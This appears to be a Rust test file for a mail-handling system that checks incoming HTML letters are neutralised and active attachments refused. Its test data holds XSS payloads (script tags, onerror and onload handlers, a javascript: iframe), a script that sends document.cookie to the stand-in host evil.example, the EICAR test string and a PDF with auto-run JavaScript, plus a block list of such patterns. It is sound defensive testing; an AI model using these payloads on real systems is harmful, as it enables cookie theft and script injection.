//! A5-88: active content for those who read: nothing that an applicant writes as HTML is HTML in a letter of ours,
//! and what a PDF can do is said. No virus scanner is asked (`security.md` calls it optional), so the EICAR file is
//! refused for what it is to Loket: no paper.
use super::super::office::{BAGUS, CITRA, DEWI, Office, RATNA};
use super::super::siege::{refused, with_files};
use loket::demo::Paper;

const BODY: &str = "<html><head><style>@import url(http://evil.example/a.css);</style></head><body onload=alert(1)>\
<script>fetch('http://evil.example/'+document.cookie)</script><img src=http://evil.example/p.gif onerror=alert(2)>\
<p>Mohon reset password Admin Agency, surat dan SK terlampir.</p><iframe src=javascript:alert(3)></iframe>\
<form action=http://evil.example><input name=p></form><svg onload=alert(4)>&lt;script&gt;alert(5)&lt;/script&gt;</body></html>";

/// The HTML part of a letter, as a mail program shows it.
fn html(raw: &[u8]) -> String {
    let mail = mail_parser::MessageParser::default().parse(raw).unwrap();
    let mut parts = mail.parts.iter().filter(|p| p.is_text_html());
    parts.next().and_then(|p| p.text_contents().map(str::to_owned)).unwrap_or_default()
}

#[tokio::test]
async fn html_of_others_is_text() {
    let mut office = Office::open().await;
    let papers = [Paper::RATNA_LETTER, Paper::RATNA_DECREE];
    let name = "=?utf-8?Q?=3Cscript=3Ealert=287=29=3C/script=3E?=";
    let post = office.mail(RATNA, "<img src=x onerror=alert(6)>", BODY, &papers);
    let post = post.swap("Content-Type: text/plain", "Content-Type: text/html");
    let case = office.send(post.from(&format!("{name} <{}>", RATNA.address))).await.case.unwrap();
    let mut looked = 0;
    for who in [BAGUS, CITRA, DEWI, RATNA] {
        for letter in office.stage.mailbox(who.address) {
            let page = html(&letter.raw).to_lowercase();
            looked += usize::from(!page.is_empty() && letter.message.subject.contains(&case));
            for bad in [
                "<script",
                "<img",
                "<iframe",
                "<svg",
                "<form",
                "<input",
                "@import",
                "onerror=a",
                "javascript:",
                "evil.example/p",
            ] {
                let text = page.replace("&lt;", "‹");
                assert!(!text.contains(bad), "{}: {bad}: {page}", letter.message.subject);
            }
        }
    }
    assert!(looked >= 3, "{looked} letters with HTML");
    office.nothing_left_the_circle().await;
    office.close().await;
}

#[tokio::test]
async fn files_that_act_are_no_papers() {
    let eicar =
        ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].concat();
    let acts = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF";
    let (office, case) = with_files(&[
        ("Surat Permohonan.com", "application/octet-stream", eicar.into_bytes()),
        ("SK Admin Agency.html", "text/html", BODY.as_bytes().to_vec()),
        (
            "surat.svg",
            "image/svg+xml",
            b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec(),
        ),
        ("Surat.pdf", "application/pdf", acts.to_vec()),
    ])
    .await;
    refused(&case);
    let pdf = case.papers.iter().find(|p| p.name == "Surat.pdf").expect("the PDF");
    let warnings = pdf.reading.as_ref().unwrap().warnings.join(" ");
    assert!(warnings.contains("JavaScript"), "{warnings}");
    office.close().await;
}
